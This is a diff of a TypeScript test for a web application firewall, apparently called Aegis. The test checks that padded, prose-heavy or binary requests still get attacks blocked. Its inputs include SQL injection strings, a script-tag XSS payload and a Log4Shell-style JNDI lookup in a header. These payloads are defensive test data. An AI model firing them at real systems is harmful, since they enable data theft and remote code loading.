@@ -18,6 +18,9 @@ import {
 const PATIENT = 'deadline = "60s", body_deadline = "60s"';
 
 const FORM = 'application/x-www-form-urlencoded';
+const OCTETS = 'application/octet-stream';
+/** Any other makes the same point. */
+const SEED = 20_261_201;
 const INJECTION = "1'%20OR%20'1'='1";
 
 const BROWSER = {
@@ -259,24 +262,34 @@ test('requests that are too costly to judge are refused, and cost no engine and 
   assert.doesNotMatch((await node.admin('GET', '/metrics')).body, /^aegis_waf_threads_ended_total\{[^}]*\} [1-9]/m);
 });
 
-test('a form that is laborious to judge hides no attack, neither before nor behind it, and costs no engine', async (t) => {
-  const { node, ask, seen } = await protectedSite(t, `mode = "block", ${PATIENT}`);
-  const random = seededRandom(7);
-  const quotes = '\'";=|<>()+abcde';
-  const field = (i: number): string => {
-    const value = Array.from({ length: 120 }, () => quotes[Math.floor(random.float() * quotes.length)]);
-    return `p${i}=${value.join('')}`;
-  };
-  const padding = Array.from({ length: 900 }, (_, i) => field(i)).join('&');
-  const attack = 'q=1%27+union+select+password+from+users--+%3Cscript%3Ealert(1)%3C/script%3E';
-  const before = seen.length;
-  for (const body of [`${attack}&${padding}`, `${padding}&${attack}`]) {
-    const answer = await ask('/', { method: 'POST', headers: { 'content-type': FORM }, body });
-    assert.ok(answer.status === 403 || answer.status === 413, String(answer.status));
+test('no content hides an attack, or costs an engine, under the settings that a site has by default', async (t) => {
+  const { node, ask, seen } = await protectedSite(t, 'mode = "block"');
+  const random = seededRandom(SEED);
+  const letters = (count: number, alphabet: string): string =>
+    Array.from({ length: count }, () => alphabet[Math.floor(random.float() * alphabet.length)]).join('');
+  // Fields that nearly match many patterns, over and over.
+  const padding = Array.from({ length: 900 }, (_, i) => `p${i}=${letters(120, `abcde'"();|<>=+`)}`).join('&');
+  const prose = `text=${"it's+said+that+'all+is+well'+".repeat(4_000)}`;
+  const attack = "q=1'+union+select+password+from+users--+<script>alert(1)</script>";
+  const binary = letters(120_000, String.fromCharCode(...Array.from({ length: 256 }, (_, i) => i)));
+  const form = { method: 'POST', headers: { 'content-type': FORM } };
+  const attacks: [string, string, Asked][] = [
+    ['before the padding', '/', { ...form, body: `${attack}&${padding}` }],
+    ['behind the padding', '/', { ...form, body: `${padding}&${attack}` }],
+    ['in a short form', '/', { ...form, body: `${padding.slice(0, 8_000)}&${attack}` }],
+    ['behind prose', '/', { ...form, body: `${prose}&${attack}` }],
+    ['in the query, before bytes', `/?id=${INJECTION}`, { method: 'POST', headers: { 'content-type': OCTETS }, body: binary }],
+    ['in a header, before padding', '/', { method: 'POST', headers: { 'content-type': FORM, 'x-a': '${jndi:ldap://a/b}' }, body: padding }],
+  ];
+  for (const [name, target, asked] of attacks) {
+    const answer = await ask(target, asked);
+    const line = await lineOf(node, answer.fields.get('x-request-id')!);
+    assert.deepEqual([answer.status, line?.action, line?.unjudged], [403, 'block', undefined], name);
+    assert.ok(line!.rules!.length > 0, name);
   }
-  const query = await ask(`/?${attack}`, { method: 'POST', headers: { 'content-type': 'application/octet-stream' }, body: padding });
-  assert.equal(query.status, 403, 'what the head says is judged whatever its content costs');
-  assert.equal(seen.length, before);
+  assert.equal(seen.length, 0);
+  assert.equal((await ask('/', { ...form, body: prose })).status, 200);
+  assert.equal(seen.length, 1);
   assert.doesNotMatch((await node.admin('GET', '/metrics')).body, /^aegis_waf_threads_ended_total\{[^}]*\} [1-9]/m);
 });
 
